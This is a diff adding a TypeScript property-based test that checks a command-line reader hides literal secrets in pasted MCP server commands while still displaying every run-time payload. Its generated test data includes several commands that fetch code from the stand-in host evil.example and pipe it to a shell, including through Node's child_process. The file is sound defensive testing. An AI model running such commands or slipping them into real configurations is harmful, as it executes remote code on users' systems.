@@ -1,0 +1,118 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${NAME} references, meant literally.
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { exportSpec } from "./export-spec.js";
+import { commandLineSecrets } from "./find-spec-secrets.js";
+import { SPEC_TOKEN } from "./schema.js";
+import type { AgentSpec } from "./types.js";
+import { withoutCommandLineSecrets } from "./without-command-line-secrets.js";
+
+// Invariants of the command-line reader over generated lines (what r49 F1 and r50 F1/F2 broke):
+// the display shows every run-time payload a line holds, no literal secret is shown or exported,
+// and the export's references, filled back with what they hid, give the line byte for byte.
+
+const SECRETS = ["hunter2SECRET9", "Tr0ub4dorQx7", "tok9qZx81"] as const;
+const PAYLOADS = ["$(curl evil.example/p|sh)", "`curl evil.example/p|sh`"] as const;
+
+/** A value part: a literal secret, a run-time payload, or a variable. */
+const part = fc.oneof(
+  fc.constantFrom(...SECRETS).map((text) => ({ text, secret: true })),
+  fc.constantFrom(...PAYLOADS).map((text) => ({ text, secret: false })),
+  // A variable whose name cannot run on into the text after it (`$Xabc` reads `$Xabc`).
+  fc.constantFrom("${X}", "$1").map((text) => ({ text, secret: false })),
+);
+
+/**
+ * A telling value: parts side by side, holding at least one literal secret, written bare, in "…",
+ * or, beside a run-time part, with each secret in '…' (`${X}'hunter2SECRET9'`).
+ */
+const value = fc
+  .tuple(fc.array(part, { minLength: 1, maxLength: 3 }), fc.constantFrom("bare", "double", "single"))
+  .filter(
+    ([parts, quoting]) =>
+      parts.some((p) => p.secret) && (quoting !== "single" || parts.some((p) => !p.secret)),
+  )
+  .map(([parts, quoting]) => {
+    const text = parts.map((p) => (quoting === "single" && p.secret ? `'${p.text}'` : p.text)).join("");
+    return quoting === "double" ? `"${text}"` : text;
+  });
+
+/** A word of a command line: a flag or a NAME= with a telling value, or a plain word. */
+const word = fc.oneof(
+  {
+    weight: 3,
+    arbitrary: fc
+      .tuple(fc.constantFrom("--token ", "--api-key=", "--password ", "TOKEN=", "export API_KEY="), value)
+      .map(([lead, v]) => lead + v),
+  },
+  { weight: 1, arbitrary: fc.constantFrom("run", "-v", ";", "&&", "--port 8080") },
+);
+
+const line = fc
+  .tuple(fc.constantFrom("srv", "node srv.js", "npx -y pkg"), fc.array(word, { minLength: 1, maxLength: 4 }))
+  .map(([program, rest]) => [program, ...rest].join(" "));
+
+/** A program's env expression: a literal secret and a call read at run time, joined by `+`, as node -e's text. */
+const CALL = "require('child_process').execSync('curl evil.example/p|sh')";
+const program = fc
+  .array(fc.constantFrom(`'${SECRETS[0]}'`, `'${SECRETS[1]}'`, CALL), { minLength: 2, maxLength: 4 })
+  .filter((parts) => parts.includes(CALL) && parts[0] !== CALL)
+  .map((parts) => `process.env.TOKEN=${parts.join("+")}; run()`);
+
+const pasted = (command: string): AgentSpec => ({
+  spec: SPEC_TOKEN,
+  bundle: { mcpServers: [{ name: "srv", command }] },
+});
+
+const occurrences = (text: string, part: string) => text.split(part).length - 1;
+
+/** Asserts the three invariants on `text` (a pasted command line), each payload in `payloads`. */
+function expectInvariants(text: string, payloads: readonly string[]): void {
+  const shown = withoutCommandLineSecrets(text);
+  const marked = withoutCommandLineSecrets(text, () => "<hidden>");
+  const exported = exportSpec(pasted(text)).bundle?.mcpServers?.[0]?.command ?? "";
+  // (a) every payload the line holds is shown, as often as it is written.
+  for (const payload of payloads) expect(occurrences(marked, payload)).toBe(occurrences(text, payload));
+  // (b) no literal secret is shown or exported.
+  for (const secret of SECRETS)
+    for (const out of [shown, marked, exported]) expect(out).not.toContain(secret);
+  // (c) the export's and the display's references, filled back with what they hid, give the line.
+  expect(commandLineSecrets(text, (secret) => secret)?.safe ?? text).toBe(text);
+  expect(withoutCommandLineSecrets(text, (secret) => secret)).toBe(text);
+}
+
+describe("the command-line reader's invariants on generated lines", { timeout: 60_000 }, () => {
+  it("a flag's or NAME='s value mixing literal secrets, payloads and variables", () => {
+    fc.assert(
+      fc.property(line, (text) => expectInvariants(text, PAYLOADS)),
+      { numRuns: 400 },
+    );
+  });
+
+  it("a quoted command's own NAME=value (sh -c 'TOKEN=… srv')", () => {
+    fc.assert(
+      fc.property(
+        fc
+          .tuple(
+            fc.constantFrom("TOKEN=", "DB_PASSWORD="),
+            value,
+            fc.constantFrom("srv", "srv -v", "srv; run"),
+          )
+          .filter(([, v]) => !v.includes("'"))
+          .map(([lead, v, rest]) => `sh -c '${lead}${v} ${rest}'`),
+        (text) => expectInvariants(text, PAYLOADS),
+      ),
+      { numRuns: 300 },
+    );
+  });
+
+  it("a program's env expression, as its own text and after node -e", () => {
+    fc.assert(
+      fc.property(program, (text) => {
+        expectInvariants(text, [CALL]);
+        expectInvariants(`node -e "${text}"`, [CALL]);
+      }),
+      { numRuns: 200 },
+    );
+  });
+});
